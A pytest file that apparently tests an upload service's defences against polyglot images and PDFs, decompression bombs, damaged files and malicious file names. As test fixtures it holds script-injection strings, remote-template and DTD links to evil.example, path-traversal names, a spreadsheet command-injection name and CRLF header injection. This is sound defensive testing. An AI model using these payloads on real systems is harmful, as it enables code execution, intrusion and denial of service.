"""Files that are made to do harm: two kinds in one, bombs, broken ends, names. Each is refused with a sentence, or harmless in what is given on.

Bounds are those of the code, asserted by what it refuses to read, not by a clock: nothing here may take more memory than the limits say.
"""

import contextlib
import io
import random
import re
import struct
import time
import tracemalloc
import zipfile
import zlib

import pikepdf
import pytest
from pikepdf import settings as qpdf
from PIL import Image

from huiyin.evidence import kinds, office, pdfs, queries
from huiyin.evidence.errors import BadFile
from huiyin.evidence.kinds import KINDS, detect
from huiyin.evidence.names import safe
from huiyin.evidence.queries import COPY, THUMB
from huiyin.evidence.serving import file_name, response
from huiyin.evidence.storage import path_of
from tests.evidence import made
from tests.evidence.sent import on_disk, send

SCRIPT = b"<script>alert('HARM-5511')</script>"


def refused(content, name="photo.jpg"):
    with pytest.raises(BadFile) as error:
        detect(io.BytesIO(content), name)
    assert re.search("[。？]$", error.value.says)
    return error.value.code


def copy_of(row):
    with queries.reader(row, COPY) as content:
        return b"".join(content.frames())


# -- two kinds in one


@pytest.mark.django_db
@pytest.mark.parametrize(
    "content",
    [
        made.jpeg() + SCRIPT,
        made.jpeg()[:2] + b"\xff\xfe" + struct.pack(">H", len(SCRIPT) + 2) + SCRIPT + made.jpeg()[2:], made.png() + SCRIPT,
        made.pdf() + b"\n" + SCRIPT, made.docx(**{"word/x.xml": SCRIPT})[:-2] + b"\0\0",
    ],
    ids=["jpeg+html", "jpeg comment", "png+html", "pdf+html", "docx"],
)  # fmt: skip
def test_what_hides_behind_or_inside_is_not_in_the_copy(content):
    row = send(content)
    copy = copy_of(row)
    assert row.kind == row.copy_kind or row.kind == "webp"
    assert row.kind == "docx" or b"HARM-5511" not in copy  # a part of a document is no page of a site
    answer = response(iter([copy]), len(copy), KINDS[row.copy_kind].mime, "attachment")
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in answer["Content-Security-Policy"]
    assert "html" not in answer["Content-Type"]


@pytest.mark.django_db
def test_a_comment_that_is_a_script_goes_with_the_comment():
    into = io.BytesIO()
    made.drawing().save(into, "GIF", comment=b"*/=1;alert('HARM-5511')//")
    assert b"HARM-5511" in into.getvalue()
    assert b"HARM-5511" not in copy_of(send(into.getvalue()))


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (made.pdf() + made.archive({"run.exe": b"MZ"}), "hidden"), (made.png() + made.archive({"a.txt": b"x"}), "hidden"),
        (made.archive({"a.txt": b"x"}) + made.pdf(), "archive"), (b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>", "markup"),
        (b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'b'>]><svg>&a;</svg>", "markup"), (b"\x1f\x8b\x08" + b"svgz" * 9, "archive"),
        (b"GIF89a=1;alert(1)//" + b"\0" * 40, "broken"), (b"%PDF-1.7\n" + made.archive({"a": b"x"}), "broken"), (b"MZ" + made.jpeg(), "program"),
        (made.docx(**{"word/embeddings/run.exe": b"MZ"}), "carried"),
        (made.docx(**{"word/embeddings/more.zip": made.archive({"a": b"x"})}), "carried"),
        (made.docx(**{"word/afchunk.html": SCRIPT}), "carried"),
    ],
)  # fmt: skip
def test_what_is_two_things_is_refused(content, code):
    assert refused(content) == code


@pytest.mark.django_db
def test_a_document_fetches_nothing_from_elsewhere_when_it_is_opened():
    rels = (
        b'<Relationships><Relationship Id="a" Type="http://x/attachedTemplate" Target="http://evil.example/HARM-5511.dotm" TargetMode="External"/>'
        b'<Relationship Id="b" Type="http://x/hyperlink" Target="https://www.example.org/" TargetMode="External"/>'
        b'<Relationship TargetMode = \'External\' Id="c" Type="http://x/image" Target="file://evil.example/HARM-5511"></Relationship>'
        b'<Relationship Id="d" Type="http://x/image" Target="media/image1.jpeg"/></Relationships>'
    )
    copy = copy_of(send(made.docx(**{"word/_rels/document.xml.rels": rels})))
    with zipfile.ZipFile(io.BytesIO(copy)) as parts:
        told = parts.read("word/_rels/document.xml.rels")
    assert b"HARM-5511" not in told
    assert b"https://www.example.org/" in told
    assert b"media/image1.jpeg" in told


TOLD = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
FAR = '<Relationship Id="a" Type="http://x/image" Target="{}" TargetMode="External"{}'

PREFIXED = '<p:Relationships xmlns:p="urn:a"><p:Relationship Id="a" Type="t" Target="{}" TargetMode="External"/></p:Relationships>'


@pytest.mark.django_db
@pytest.mark.parametrize(
    "rels",
    [
        TOLD.format(FAR.format("http://evil.example/HARM-5511?a>b", "/>")).encode(),  # a > that stands in a value
        TOLD.format(FAR.format("http://evil.example/HARM-5511", "><!-- --></Relationship>")).encode(),
        TOLD.format(FAR.format("http://evil.example/&#72;ARM-5511", "/>")).replace("External", "&#69;xternal").encode(),
        ('<?xml version="1.0" encoding="UTF-16"?>' + TOLD.format(FAR.format("http://evil.example/HARM-5511", "/>"))).encode("utf-16"),
        PREFIXED.format("file://HARM-5511").encode(),
    ],
)  # fmt: skip
def test_however_it_is_written_nothing_is_fetched_from_elsewhere(rels):
    copy = copy_of(send(made.docx(**{"word/_rels/document.xml.rels": rels})))
    with zipfile.ZipFile(io.BytesIO(copy)) as parts:
        told = parts.read("word/_rels/document.xml.rels")
    assert b"ARM-5511" not in told
    assert b"Relationships" in told


@pytest.mark.django_db
@pytest.mark.parametrize(
    "rels",
    [
        b'<!DOCTYPE a [<!ENTITY e "External">]>'
        + TOLD.format(FAR.format("x", "/>").replace("External", "&e;")).encode(),
        b'<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">' + TOLD.format("").encode(),
        b"<Relationships>",
        b"<Relationship " * 100_000,
        TOLD.format("<Relationship/>" * 400_000).encode(),
    ],
)
def test_relations_that_no_program_writes_are_refused(rels):
    with pytest.raises(BadFile):
        send(made.docx(**{"word/_rels/document.xml.rels": rels}))


@pytest.mark.parametrize("one", ["<p:author ", "<Relationship ", 'w:author="', "w:author='a\" ", "<author>", "name="])
def test_a_long_part_of_one_sort_takes_time_by_its_length(one):
    """A search that began anew at every one of them would take hours for these two megabytes."""
    data = (one.encode() * 400_000)[:2_000_000]
    began = time.process_time()
    office._without_authors(data)
    assert time.process_time() - began < 5


# -- bombs


def png(width, height, *, text=b""):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = zlib.compress((b"\0" + b"\0" * ((width + 7) // 8)) * height)
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    told = chunk(b"zTXt", b"a\0\0" + text) if text else b""
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + told + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def declared(code, width, height):
    """A picture that says it is this large, with next to nothing in it."""
    if code == "jpg":
        data = bytearray(made.jpeg())
        at = data.index(b"\xff\xc0")
        data[at + 5 : at + 9] = struct.pack(">HH", height, width)
        return bytes(data)
    data = bytearray(made.gif())
    data[6:10] = struct.pack("<HH", width, height)
    return bytes(data)


@pytest.mark.parametrize(
    "content",
    [made.bomb_png(), made.bomb_png(200_000, 300), declared("jpg", 65_500, 65_500), declared("gif", 65_535, 65_535)],
    ids=["png", "wide png", "jpeg", "gif"],
)
def test_a_picture_that_would_fill_the_memory_is_refused_before_it_is_opened(content):
    tracemalloc.start()
    try:
        assert refused(content) == "pixels"
        assert tracemalloc.get_traced_memory()[1] < 20_000_000
    finally:
        tracemalloc.stop()


@pytest.mark.django_db
@pytest.mark.parametrize(("width", "height"), [(50_000, 1), (1, 50_000), (1, 1)])
def test_a_line_of_pixels_is_a_picture(width, height):
    row = send(png(width, height))
    with Image.open(io.BytesIO(copy_of(row))) as copy:
        assert max(copy.size) <= 4096
        assert min(copy.size) >= 1
    with queries.reader(row, THUMB) as thumb, Image.open(io.BytesIO(b"".join(thumb.frames()))) as small:
        assert 1 <= min(small.size) <= max(small.size) <= 320


@pytest.mark.django_db
def test_a_text_that_unfolds_in_a_picture_is_no_way_in(folder):
    with pytest.raises(BadFile) as error:
        send(png(8, 8, text=zlib.compress(b"A" * 80_000_000)))
    assert error.value.code == "broken"
    assert on_disk(folder) == []


def pdf_with_objects(packed, filter=b"/FlateDecode"):
    """A PDF whose objects stand in a stream (PDF 1.5), `packed`."""
    out, at = io.BytesIO(), {}
    out.write(b"%PDF-1.5\n")

    def put(number, body):
        at[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")

    put(3, b"<</Type/Catalog/Pages 4 0 R/X 1 0 R>>")
    put(4, b"<</Type/Pages/Kids[5 0 R]/Count 1>>")
    put(5, b"<</Type/Page/Parent 4 0 R/MediaBox[0 0 9 9]>>")
    put(
        6, b"<</Type/ObjStm/N 2/First 20/Length %d/Filter%s>>stream\n" % (len(packed), filter) + packed + b"\nendstream"
    )

    def row(kind, one, other):
        return bytes([kind]) + one.to_bytes(4, "big") + bytes([other])

    start = out.tell()
    rows = (
        row(0, 0, 255)
        + row(2, 6, 0)
        + row(2, 6, 1)
        + b"".join(row(1, at[n], 0) for n in (3, 4, 5, 6))
        + row(1, start, 0)
    )
    table = zlib.compress(rows)
    out.write(
        b"7 0 obj\n<</Type/XRef/Size 8/W[1 4 1]/Root 3 0 R/Length %d/Filter/FlateDecode>>stream\n" % len(table) + table
    )
    out.write(b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % start)
    return out.getvalue()


OBJECTS = b"1 0 2 10 ".ljust(20) + b"<<>>      <<>>"


def test_a_document_whose_skeleton_unfolds_without_end_is_refused():
    usual = pdf_with_objects(zlib.compress(OBJECTS))
    bomb = pdf_with_objects(zlib.compress(OBJECTS + b" " * (pdfs.UNPACKED * 2)))
    assert len(bomb) < 60_000
    with pdfs.open_pdf(io.BytesIO(usual)) as found:
        assert isinstance(found.Root.X, pikepdf.Dictionary)
    with pdfs.open_pdf(io.BytesIO(bomb)) as found:
        assert found.Root.get("/X") is None  # what stands in such a stream is not unpacked, and counts as not there
    for name in (b"/LZWDecode", b"/LZ#57Decode", b"[/LZW /FlateDecode]"):
        assert refused(pdf_with_objects(b"\x80\x0b", name)) == "bomb"
    assert qpdf.get_qpdf_limits()["flate_max_memory"] == pdfs.UNPACKED


@pytest.mark.django_db
def test_what_is_packed_in_a_document_stays_packed_in_its_copy():
    document = pikepdf.new()
    page = document.add_blank_page()
    packed = zlib.compress(b"q Q " * 5_000_000)
    page.obj.Contents = pikepdf.Stream(document, b"")
    page.obj.Contents.write(packed, filter=pikepdf.Name.FlateDecode)
    into = io.BytesIO()
    document.save(into)
    with pikepdf.open(io.BytesIO(copy_of(send(into.getvalue())))) as copy:
        assert copy.pages[0].obj.Contents.read_raw_bytes() == packed


def test_an_archive_that_unfolds_is_refused_without_unfolding_it():
    zeros = b"\0" * 60_000_000
    assert refused(made.docx(**{"word/media/zeros.bin": zeros})) == "bomb"
    many = {f"word/media/{n}.bin": b"\0" * 1_000_000 for n in range(700)}
    assert refused(made.docx(**many)) == "bomb"
    nested = made.docx(**{"word/embeddings/inner.docx": made.docx(**{"word/media/zeros.bin": zeros})})
    assert detect(io.BytesIO(nested)).code == "docx"  # what is inside a part is never opened


def test_a_list_of_parts_that_fills_the_memory_is_not_read():
    row = b"PK\x01\x02" + b"\0" * 24 + struct.pack("<HHHHHIIH", 1, 0, 0, 0, 0, 0, 0, 0)[:18] + b"a"
    listed = row * 100_000
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 0xFFFF, 0xFFFF, len(listed), 0, 0)
    tracemalloc.start()
    try:
        assert refused(made.jpeg() + listed + end) in ("hidden", "broken")
        assert refused(b"PK\x03\x04" + b"\0" * 30 + listed + end) in ("bomb", "broken")
        assert tracemalloc.get_traced_memory()[1] < len(listed) * 6
    finally:
        tracemalloc.stop()
    assert len(listed) > kinds.LIST


def test_a_part_that_is_longer_than_it_says_is_not_read_on():
    content = bytearray(made.docx(**{"word/media/image2.jpeg": b"\xff\xd8" + b"\0" * 3_000_000}))
    for sign in (b"PK\x01\x02", b"PK\x03\x04"):
        for at in [m.start() for m in re.finditer(re.escape(sign), content)]:
            name = 46 if sign == b"PK\x01\x02" else 30
            if content[at + name : at + name + 22] == b"word/media/image2.jpeg":
                size = at + (24 if sign == b"PK\x01\x02" else 22)
                content[size : size + 4] = struct.pack("<I", 100)
    assert detect(io.BytesIO(bytes(content))).code == "docx"
    with pytest.raises(BadFile) as error:
        derive_document(bytes(content))
    assert error.value.code == "broken"


def derive_document(content):
    from functools import partial

    from huiyin.evidence import derive, storage

    return derive.derive(io.BytesIO(content), KINDS["docx"], partial(storage.Writer, b"k" * 32))


# -- cut off, changed, called otherwise


@pytest.mark.django_db
@pytest.mark.filterwarnings("ignore:Corrupt EXIF")
@pytest.mark.parametrize("code", sorted(made.GOOD))
def test_a_file_that_is_cut_off_or_damaged_is_refused_or_whole(code, folder):
    whole, chance = made.GOOD[code](), random.Random(code)
    taken = []
    for part in range(1, 8):
        damaged = bytearray(whole[: len(whole) * part // 8] if part % 2 else whole)
        for _ in range(3 if part % 2 == 0 else 0):
            damaged[chance.randrange(len(damaged))] ^= 1 << chance.randrange(8)
        with contextlib.suppress(BadFile):  # and nothing else may come of it
            taken.append((send(bytes(damaged), name=f"a.{code}"), len(damaged)))
    assert all(row.kind in KINDS and row.size == size for row, size in taken)
    assert set(on_disk(folder)) == {path_of(address) for row, _size in taken for address in row.addresses}


@pytest.mark.parametrize("code", ["pdf", "docx", "mp3", "png"])
def test_the_ending_of_a_name_counts_for_nothing(code):
    for name in ("photo.jpg", "run.exe", "page.html", "a.svg", "noending"):
        assert detect(io.BytesIO(made.GOOD[code]()), name).code == code


@pytest.mark.parametrize(
    "name",
    [
        "发票\u202egpj.exe", "../../etc/passwd", "..\\..\\windows\\system.ini", "a\0b.jpg", "发票.jpg\r\nX-Evil: 1", "x" * 5000,
        "CON", "\u2066\u200f.jpg",
        "...",
        "<script>alert(1)</script>.jpg", "=cmd|' /C calc'!A0.jpg", "\ud800.jpg", "a/\u2215b\uff0fc", "%2e%2e%2fetc",
    ],
)  # fmt: skip
def test_no_name_is_a_path_a_direction_or_a_program(name):
    shown = safe(name, KINDS["jpg"])
    assert shown.endswith(".jpg")
    assert len(shown) <= 70
    assert not re.search(r"[/\\<>:\"|?*\x00-\x1f\u200e\u200f\u202a-\u202e\u2066-\u2069]", shown)
    assert not re.fullmatch(r"(?i)(con|nul|prn|aux)\..*", shown)
    saved = file_name(
        "2026/000012\r\nX: 1", 3, COPY, KINDS["jpg"]
    )  # nothing of what it was called is in what a browser is told
    assert re.fullmatch(r"[A-Za-z0-9_.-]+", saved)
